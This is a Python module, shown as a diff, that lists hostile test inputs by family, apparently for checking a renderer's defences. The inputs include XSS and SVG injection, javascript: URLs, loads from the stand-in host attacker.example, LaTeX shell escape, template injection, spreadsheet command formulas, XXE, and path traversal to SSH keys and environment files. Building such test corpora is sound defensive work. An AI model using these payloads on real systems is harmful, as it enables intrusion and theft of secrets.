@@ -1,0 +1,292 @@
+"""What hostile text attempts, family by family.
+
+An attempt is one way to make a document act: run a script, load an address, open a file, become
+markup of a language that the text passes through, or confuse whoever reads it. Each is written as
+plainly as it goes; `disguises` hides it and `frames` puts it where it would break out.
+"""
+
+from __future__ import annotations
+
+from typing import Final
+
+WITNESS: Final = "__pwned"
+"""Name of the global that a script would set."""
+
+OUTSIDE: Final = "attacker.example"
+"""Host that a document would ask for something."""
+
+_RUN: Final = f"window.{WITNESS}=1"
+_AWAY: Final = f"https://{OUTSIDE}/x"
+
+_FAMILIES: Final[dict[str, tuple[str, ...]]] = {
+    "script": (
+        "<script>RUN</script>",
+        "<script src=AWAY></script>",
+        "<script type=module>import('AWAY')</script>",
+        "<script>/*</script><script>*/RUN//</script>",
+        "<scr<script>ipt>RUN</scr</script>ipt>",
+    ),
+    "handler": (
+        "<img src=x onerror=RUN>",
+        "<body onload=RUN>",
+        "<details open ontoggle=RUN>",
+        "<input autofocus onfocus=RUN>",
+        "<video><source onerror=RUN></video>",
+        "<p onpointerenter=RUN>over</p>",
+        "<style onload=RUN></style>",
+        "<b/onclick=RUN>bold",
+        "x' onmouseover='RUN",
+        'x" autofocus onfocus="RUN',
+    ),
+    "mutation": (
+        '<noscript><p title="</noscript><img src=x onerror=RUN>">',
+        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x "
+        "onerror=RUN&gt;'>",
+        '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
+        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
+        "<template><s><template><s><img src=x onerror=RUN></s></template>",
+        "<select><iframe></select><img src=x onerror=RUN>",
+        "<listing>&lt;img src=x onerror=RUN&gt;</listing>",
+        "<xmp></xmp><img src=x onerror=RUN></xmp>",
+        "<table><td><svg><desc><table><td></desc><img src=x onerror=RUN>",
+    ),
+    "namespace": (
+        "<svg onload=RUN>",
+        "<svg><script href=AWAY />",
+        "<svg><animate onbegin=RUN attributeName=x dur=1s>",
+        "<svg><a><set attributeName=href to=javascript:RUN /><text>x</text></a></svg>",
+        "<svg><foreignObject><body onload=RUN></foreignObject></svg>",
+        "<svg><use href='data:image/svg+xml,&lt;svg id=x onload=RUN>#x' /></svg>",
+        "<svg><image href='AWAY' /></svg>",
+        "<math href='javascript:RUN'>x</math>",
+        "<math><maction actiontype='statusline' xlink:href='javascript:RUN'>x</maction></math>",
+        "<math><annotation-xml encoding='text/html'><img src=x onerror=RUN></annotation-xml></math>",
+    ),
+    "style": (
+        "<style>@import 'AWAY';</style>",
+        "<div style=\"background:url('AWAY')\">x</div>",
+        "<link rel=stylesheet href=AWAY>",
+        "</style><style>*{background:url(AWAY)}",
+        "<p style='width:expression(RUN);behavior:url(AWAY)'>x",
+        "}@font-face{font-family:x;src:url(AWAY)}*{font-family:x",
+        "<div style='position:fixed;inset:0'>over everything</div>",
+    ),
+    "loading": (
+        "<iframe src='AWAY'></iframe>",
+        "<iframe srcdoc='<script>RUN</script>'></iframe>",
+        "<object data='AWAY'></object>",
+        "<embed src='AWAY'>",
+        "<base href='AWAY'>",
+        "<meta http-equiv=refresh content='0;url=AWAY'>",
+        "<form action='AWAY'><button>send</button></form>",
+        "<img srcset='AWAY 1x'>",
+        "<audio autoplay src='AWAY'></audio>",
+        "<link rel=dns-prefetch href='AWAY'><link rel=preload as=image href='AWAY'>",
+        "<table background='AWAY'><tr><td background='AWAY'>x</table>",
+        "<input type=image src='AWAY'>",
+    ),
+    "address": (
+        "javascript:RUN",
+        "javascript://%0aRUN",
+        "data:text/html,<script>RUN</script>",
+        "data:text/html;base64,PHNjcmlwdD48L3NjcmlwdD4=",
+        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>",
+        "vbscript:RUN",
+        "file://FILE",
+        "blob:AWAY",
+        "view-source:AWAY",
+        "filesystem:AWAY",
+        "feed:javascript:RUN",
+        "jar:AWAY!/x",
+        f"ftp://{OUTSIDE}/x",
+        f"ws://{OUTSIDE}/x",
+        f"//{OUTSIDE}/x",
+        f"\\\\{OUTSIDE}\\share\\x",
+        "https:javascript:RUN",
+        "ms-word:ofe|u|AWAY",
+        "intent://x#Intent;scheme=AWAY;end",
+    ),
+    "link": (
+        "<a href='javascript:RUN'>x</a>",
+        "<a href='java&#115;cript&colon;RUN'>x</a>",
+        "<a href='\x01javascript:RUN'>x</a>",
+        "<a href='data:text/html,<script>RUN</script>' download=x>x</a>",
+        "<a href='file://FILE'>x</a>",
+        "<a href='AWAY' ping='AWAY' target=_blank>x</a>",
+        "<a xlink:href='javascript:RUN'>x</a>",
+        "<area href='javascript:RUN'>",
+    ),
+    "markdown": (
+        "[x](javascript:RUN)",
+        "[x](<javascript:RUN>)",
+        "[x](java\nscript:RUN)",
+        "[x](JaVaScRiPt&colon;RUN)",
+        "[x](data:text/html;base64,PHNjcmlwdD4=)",
+        "[x](file://FILE)",
+        "![x](AWAY)",
+        "![x](file://FILE)",
+        "![x](FILE)",
+        "![x](attachment:../../FILE)",
+        "![x](data:image/svg+xml;base64,PHN2Zy8+)",
+        "<javascript:RUN>",
+        "[x][j]\n\n[j]: javascript:RUN",
+        '[x](https://a.example "\'onclick=RUN")',
+        "[x](https://a.example/\"onclick='RUN)",
+        "> [!NOTE] <script>RUN</script>",
+        "[@src-1] @fig-x {#sec-x}",
+        "```html\n</code></pre><script>RUN</script>",
+        "| a |\n|---|\n| <script>RUN</script> |",
+        "- [x] <img src=x onerror=RUN>",
+        "~~x~~ **x** _x_ `x` \\* \\[x](javascript:RUN)",
+    ),
+    "typst": (
+        '#read("FILE")',
+        '#eval("read(\\"FILE\\")")',
+        '#import "@preview/cetz:0.3.0": *',
+        '#include "FILE"',
+        '#image("FILE")',
+        '#plugin("AWAY")',
+        '#csv("FILE")',
+        '#json("tokens.json")',
+        "#panic()",
+        "#sys.inputs",
+        '#link("javascript:RUN")[x]',
+        "#set page(width: 1pt)",
+        "#show: none",
+        "#{ while true {} }",
+        "#context query(heading)",
+        '"))#read("FILE")',
+        '\\"))#read("FILE")',
+        '\\\\"))#panic()',
+        '\n#read("FILE")\n',
+        ']#read("FILE")[',
+        '$ #read("FILE") $',
+        "<label> @label *b* _e_ `r` = h",
+        "\\u{22}))#panic()",
+        "/* // */ #let x = 1",
+    ),
+    "latex": (
+        "\\input{FILE}",
+        "\\include{FILE}",
+        "\\immediate\\write18{id > x}",
+        "\\href{javascript:RUN}{x}",
+        "\\url{javascript:RUN}",
+        "\\openin5=FILE \\read5 to\\x",
+        "\\lstinputlisting{FILE}",
+        "\\htmlClass{x}{y}\\htmlData{a=b}{c}",
+        "\\style{background:url(AWAY)}{x}",
+        "\\class{x' onclick='RUN}{y}",
+        "\\unicode{60}script\\unicode{62}RUN",
+        "\\require{html}\\cssId{main}{x}",
+        "\\def\\x{\\x\\x}\\x",
+        "\\newcommand{\\x}{\\x\\x}\\x",
+        "\\csname input\\endcsname{FILE}",
+        "\\text{<script>RUN</script>}",
+        "\\operatorname{<img src=x onerror=RUN>}",
+        "\\color{red;background:url(AWAY)}{x}",
+        "\\includegraphics{FILE}",
+        "\\begin{filecontents}{FILE}x\\end{filecontents}",
+    ),
+    "template": (
+        "{{ 7 * 7 }}",
+        "{{ ''.__class__.__mro__ }}",
+        "{% include 'FILE' %}",
+        "{%- endset -%}{{ resources }}",
+        "{# gone #}",
+        "{% raw %}",
+        "${7*7} #{7*7} <%= 7*7 %>",
+        "{{constructor.constructor('RUN')()}}",
+        "<!--#include file='FILE'--><?php readfile('FILE') ?>",
+    ),
+    "format": (
+        "%s%s%s%n%x",
+        "{0.__class__.__init__.__globals__}",
+        "{field!r:>9999}",
+        "{} {name} {",
+        "%(x)s $x $(id) `id`",
+        "'; DROP TABLE claims; --",
+        '","__proto__":{"x":1}',
+    ),
+    "spreadsheet": (
+        '=HYPERLINK("AWAY","x")',
+        "=cmd|'/c calc'!A1",
+        "+1+1",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+        "\t=1+1",
+        "\r=1+1",
+        '=IMPORTXML("AWAY","//x")',
+    ),
+    "terminal": (
+        "\x1b[2J\x1b[31mred",
+        "\x1b]0;title\x07",
+        "\x1b]8;;AWAY\x1b\\x\x1b]8;;\x1b\\",
+        "\x1b]52;c;cm0gLXJm\x07",
+        "\x9b31m\x9d0;title\x9c",
+        "\x1bP+q544e\x1b\\",
+        "seen\x08\x08\x08\x08gone\rover",
+        "\x1b[200~x\x1b[201~",
+    ),
+    "characters": (
+        "\u202egnp.exe\u202c",
+        "\u2066\u2067\u2068x\u2069\u2069\u2069",
+        "\u200e\u200f\u061cmarks",
+        "zero\u200bwidth\u200cjoin\u200der\u2060\ufeff",
+        "soft\u00adhy\u00adphen\u034f",
+        "nul\x00in\x00side",
+        "half \ud83d pair \udc00 and \ufffe \uffff",
+        "lines\u2028and\u2029paragraphs\x0b\x0c\x85",
+        "tags \U000e0001\U000e0061\U000e007f",
+        "private \ue000\uf8ff",
+        "p\u0430yp\u0430l.example and \u0261oogle.example",
+        "z\u0351\u0342\u0360a\u035c\u0489\u0321l\u0334\u0347g\u0318o\u0353",
+        "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 \u05e2\u05d1\u05e8\u05d9\u05ea",
+        "\u6f22\u5b57 \ud55c\uad6d \u0939\u093f\u0928\u094d\u0926\u0940",
+        "\U0001f600\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f1fa\U0001f1f3",
+        "fi\ufb01 \u00bd \u2460 \u33a5 \ufdfa",
+        "w" * 10_000,
+        "9" * 400,
+        "a" + "\u0301" * 200,
+    ),
+    "path": (
+        "../../../../FILE",
+        "..\\..\\..\\windows\\win.ini",
+        "%2e%2e%2f%2e%2e%2fFILE",
+        "FILE\x00.png",
+        "~/.ssh/id_rsa",
+        "$HOME/.netrc",
+        "/proc/self/environ",
+        "CON NUL aux.txt",
+        "a/b:c*d?e\"f<g>h|i",
+    ),
+    "xml": (
+        '<!DOCTYPE x [<!ENTITY e SYSTEM "file://FILE">]><x>&e;</x>',
+        '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>',
+        '<?xml-stylesheet href="AWAY"?>',
+        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://FILE"/>',
+        "<![CDATA[<script>RUN</script>]]>",
+        "<?import namespace='x' implementation='AWAY' ?>",
+    ),
+    "pdf": (
+        "%PDF-1.7 endobj endstream",
+        ") /OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
+        "<< /S /Launch /F (FILE) >>",
+        "/AA << /O << /S /URI /URI (AWAY) >> >>",
+        "\xfe\xff\x00j\x00s",
+    ),
+}
+
+
+def attempts(file: str) -> list[tuple[str, str]]:
+    """Give each attempt with the name of its family.
+
+    Parameters
+    ----------
+    file : str
+        Path of a file that no document may show.
+    """
+    return [
+        (family, text.replace("RUN", _RUN).replace("AWAY", _AWAY).replace("FILE", file))
+        for family, texts in _FAMILIES.items()
+        for text in texts
+    ]
